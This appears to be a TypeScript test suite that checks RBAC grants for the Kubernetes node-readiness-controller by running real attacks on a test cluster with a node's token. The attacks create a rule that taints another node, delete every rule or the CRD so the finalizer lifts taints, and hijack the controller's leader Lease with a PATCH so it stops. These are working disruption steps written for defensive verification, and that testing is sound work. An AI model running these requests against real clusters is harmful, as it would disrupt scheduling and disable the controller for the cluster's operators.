// NRC's own machinery, walked for real with our NRC-compatible controller
// running: node-a's reporter token creates a rule that taints node-b (the
// controller puts the taint on), or deletes every rule at once (the
// controller's finalizer takes node-b's taint off). Each nearest twin is the
// same grant through a RoleBinding, which grants nothing on cluster-scoped
// rules: the apiserver answers 403, and verify must say Constrained.
import { join } from 'node:path';
import type { Cluster } from '../cluster/cluster.ts';
import { apiRequest, type ApiResponse } from '../cluster/requests.ts';
import { installCRD, startController, upstreamDir } from '../cluster/scenario.ts';
import { NAMESPACE, TARGET, outcome, poll, role, twins, walkAttacks, type Attack } from './escalation-kit.ts';

const RULES_API = '/apis/readiness.node.x-k8s.io/v1alpha1/nodereadinessrules';
// The CRD's CEL allows only keys under readiness.k8s.io/: still any node's scheduling, and NoExecute evicts.
const GATE_TAINT = 'readiness.k8s.io/AttackGate';

/** A rule gating node-b alone on a condition no one reports: the controller taints node-b and keeps the taint on. */
const gateRule = (name: string) => ({
  apiVersion: 'readiness.node.x-k8s.io/v1alpha1',
  kind: 'NodeReadinessRule',
  metadata: { name },
  spec: {
    conditions: [{ type: 'example.com/NeverReported', requiredStatus: 'True' }],
    taint: { key: GATE_TAINT, effect: 'NoSchedule', value: 'attack' },
    enforcementMode: 'continuous',
    nodeSelector: { matchLabels: { 'kubernetes.io/hostname': TARGET } },
  },
});

async function gated(cluster: Cluster): Promise<boolean> {
  const node = JSON.parse(await cluster.kubectlOk(['get', 'node', TARGET, '-o', 'json'])) as { spec: { taints?: { key: string }[] } };
  return (node.spec.taints ?? []).some((taint) => taint.key === GATE_TAINT);
}

/** Creates the gate rule with the reporter's token; worked when the controller has tainted node-b. */
async function createGatingRule(cluster: Cluster, token: string): Promise<ApiResponse> {
  const created = await apiRequest(cluster, { method: 'POST', path: RULES_API, token, body: gateRule('attack-gate') });
  if (created.status !== 201) return created;
  try {
    const tainted = await poll(30, async () => ((await gated(cluster)) ? true : null));
    return outcome(tainted === true, tainted ? `the controller tainted ${TARGET} ${GATE_TAINT}` : 'the controller never tainted node-b');
  } finally {
    // The finalizer takes the taint off again.
    await cluster.kubectlOk(['delete', 'nodereadinessrule', 'attack-gate', '--wait=true']);
  }
}

/**
 * The admin gates node-b with a rule and waits for the taint; the reporter's
 * token then deletes every rule with one deletecollection. Worked when the
 * controller's finalizer has taken node-b's taint off. The scenario's own
 * rule is put back either way.
 */
async function deleteEveryRule(cluster: Cluster, token: string): Promise<ApiResponse> {
  await cluster.kubectlOk(['apply', '-f', '-'], JSON.stringify(gateRule('admin-gate')));
  try {
    if (!(await poll(30, async () => ((await gated(cluster)) ? true : null)))) return outcome(false, 'the gate rule never tainted node-b');
    const deleted = await apiRequest(cluster, { method: 'DELETE', path: RULES_API, token });
    if (deleted.status !== 200) return deleted;
    const lifted = await poll(30, async () => ((await gated(cluster)) ? null : true));
    return outcome(lifted === true, lifted ? "the finalizer lifted node-b's taint" : "node-b's taint stayed on");
  } finally {
    await cluster.kubectlOk(['delete', 'nodereadinessrule', 'admin-gate', '--ignore-not-found', '--wait=true']);
    await cluster.kubectlOk(['apply', '-f', join(upstreamDir, 'examples/constrained-impersonation/readiness-rule.yaml')]);
  }
}

const CRD_PATH = '/apis/apiextensions.k8s.io/v1/customresourcedefinitions/nodereadinessrules.readiness.node.x-k8s.io';

/**
 * The admin gates node-b; the reporter's token deletes NodeReadinessRule's
 * CRD, which deletes every rule: worked when NRC's finalizer has lifted
 * node-b's taint. The CRD and the scenario's rule are put back either way.
 */
async function deleteTheCRD(cluster: Cluster, token: string): Promise<ApiResponse> {
  await cluster.kubectlOk(['apply', '-f', '-'], JSON.stringify(gateRule('crd-gate')));
  let deleted: ApiResponse | null = null;
  try {
    if (!(await poll(30, async () => ((await gated(cluster)) ? true : null)))) return outcome(false, 'the gate rule never tainted node-b');
    deleted = await apiRequest(cluster, { method: 'DELETE', path: CRD_PATH, token });
    if (deleted.status !== 200) return deleted;
    const lifted = await poll(30, async () => ((await gated(cluster)) ? null : true));
    return outcome(
      lifted === true,
      lifted ? "deleting the CRD deleted the rules, and the finalizer lifted node-b's taint" : "node-b's taint stayed on",
    );
  } finally {
    if (deleted?.status === 200) {
      await poll(60, async () => ((await apiRequest(cluster, { method: 'GET', path: CRD_PATH })).status === 404 ? true : null));
      await installCRD(cluster);
      await cluster.kubectlOk(['wait', '--for=condition=Established', 'crd/nodereadinessrules.readiness.node.x-k8s.io']);
      await cluster.kubectlOk(['apply', '-f', join(upstreamDir, 'examples/constrained-impersonation/readiness-rule.yaml')]);
    } else await cluster.kubectlOk(['delete', 'nodereadinessrule', 'crd-gate', '--ignore-not-found', '--wait=true']);
  }
}

const crdDeleter = (namespace?: string) =>
  role(
    namespace ? 'crd-deleter-ns' : 'crd-deleter',
    '[{apiGroups: [apiextensions.k8s.io], resources: [customresourcedefinitions], verbs: [delete], resourceNames: [nodereadinessrules.readiness.node.x-k8s.io]}]',
    undefined,
    namespace,
  );

const rules = (verbs: string) => `[{apiGroups: [readiness.node.x-k8s.io], resources: [nodereadinessrules], verbs: [${verbs}]}]`;

const attacks: [Attack, Attack][] = [
  twins(
    'disrupt-other-nodes',
    createGatingRule,
    ['creating a rule that taints node-b: the controller taints it', role('rule-creator', rules('create'))],
    ['creating rules through a RoleBinding only', role('rule-creator-ns', rules('create'), undefined, NAMESPACE)],
  ),
  twins(
    'lift-readiness-taints',
    deleteEveryRule,
    ["deleting every rule at once: NRC's finalizer lifts node-b's taint", role('rule-collector', rules('deletecollection'))],
    ['deletecollection on rules through a RoleBinding only', role('rule-collector-ns', rules('deletecollection'), undefined, NAMESPACE)],
  ),
  twins(
    'lift-readiness-taints',
    deleteTheCRD,
    ["deleting NodeReadinessRule's CRD: every rule goes, and NRC's finalizer lifts node-b's taint", crdDeleter()],
    ['deleting that CRD through a RoleBinding only', crdDeleter(NAMESPACE)],
  ),
];

walkAttacks("NRC's own machinery, walked for real with node-a's reporter token and the controller running", attacks, async (cluster) => {
  const controller = await startController(cluster);
  return () => controller.stop();
});

const CONTROLLER_NAMESPACE = 'nrc-system';
const LEASE = 'ba65f13e.readiness.node.x-k8s.io';

/** NRC's controller Deployment as its Helm chart makes it: what tells verify where the controller and its Lease live (no pod starts here). */
const CONTROLLER_DEPLOYMENT = `apiVersion: v1
kind: Namespace
metadata: {name: ${CONTROLLER_NAMESPACE}}
---
apiVersion: apps/v1
kind: Deployment
metadata: {name: node-readiness-controller, namespace: ${CONTROLLER_NAMESPACE}}
spec:
  replicas: 1
  selector: {matchLabels: {app: node-readiness-controller}}
  template:
    metadata: {labels: {app: node-readiness-controller}}
    spec:
      containers: [{name: manager, image: "registry.k8s.io/node-readiness-controller/node-readiness-controller:v0.3.0"}]
`;

/**
 * Takes NRC's leader Lease with the reporter's token: the controller cannot
 * renew it, gives up leadership and stops. Worked when a rule gating node-b,
 * made afterwards by the admin, never gets its taint, where one made before
 * the attack did.
 */
async function holdTheLease(cluster: Cluster, token: string): Promise<ApiResponse> {
  const path = `/apis/coordination.k8s.io/v1/namespaces/${CONTROLLER_NAMESPACE}/leases/${LEASE}`;
  const elected = await poll(30, async () => {
    const read = await apiRequest(cluster, { method: 'GET', path });
    return read.status === 200 ? true : null;
  });
  if (!elected) return outcome(false, 'the controller never took its Lease');
  // First, that it leads: a rule gating node-b gets its taint, and loses it with the rule.
  await cluster.kubectlOk(['apply', '-f', '-'], JSON.stringify(gateRule('before-the-lease')));
  const leading = await poll(30, async () => ((await gated(cluster)) ? true : null));
  await cluster.kubectlOk(['delete', 'nodereadinessrule', 'before-the-lease', '--wait=true']);
  if (!leading || (await gated(cluster))) return outcome(false, 'the controller was not leading before the attack');
  const now = new Date().toISOString().replace(/\.\d+Z$/, '.000000Z');
  const taken = await apiRequest(cluster, {
    method: 'PATCH',
    path,
    token,
    body: { spec: { holderIdentity: 'node-a-attacker', leaseDurationSeconds: 3600, acquireTime: now, renewTime: now } },
    contentType: 'application/merge-patch+json',
  });
  if (taken.status !== 200) return taken;
  try {
    // Its renew deadline is 10 s; then it stops leading and exits.
    await new Promise((resolve) => setTimeout(resolve, 15_000));
    await cluster.kubectlOk(['apply', '-f', '-'], JSON.stringify(gateRule('after-the-lease')));
    const tainted = await poll(15, async () => ((await gated(cluster)) ? true : null));
    return outcome(tainted === null, tainted ? 'the controller still tainted node-b' : 'no controller acted on the new rule');
  } finally {
    await cluster.kubectlOk(['patch', 'nodereadinessrule', 'after-the-lease', '--type=merge', '-p', '{"metadata":{"finalizers":null}}']);
    await cluster.kubectlOk(['delete', 'nodereadinessrule', 'after-the-lease', '--ignore-not-found']);
    // A leading controller again, for the twin: the Lease back to no one, and a fresh process.
    await electing?.stop();
    await cluster.kubectlOk(['-n', CONTROLLER_NAMESPACE, 'delete', 'lease', LEASE]);
    electing = await startController(cluster, { leaderElectionNamespace: CONTROLLER_NAMESPACE });
  }
}

let electing: { stop(): Promise<void> } | undefined;

const leaseWriter = (namespace: string) =>
  role(
    `lease-holder-${namespace}`,
    `[{apiGroups: [coordination.k8s.io], resources: [leases], verbs: [get, patch], resourceNames: [${LEASE}]}]`,
    undefined,
    namespace,
  );

walkAttacks(
  "NRC's leader Lease, walked for real with node-a's reporter token and the controller electing its leader",
  [
    twins(
      'change-rules',
      holdTheLease,
      ["holding NRC's leader Lease: the controller stops", leaseWriter(CONTROLLER_NAMESPACE)],
      ['the same Lease grant where no controller runs', leaseWriter('default')],
    ),
  ],
  async (cluster) => {
    await cluster.kubectlOk(['apply', '-f', '-'], CONTROLLER_DEPLOYMENT);
    electing = await startController(cluster, { leaderElectionNamespace: CONTROLLER_NAMESPACE });
    return () => electing!.stop();
  },
);
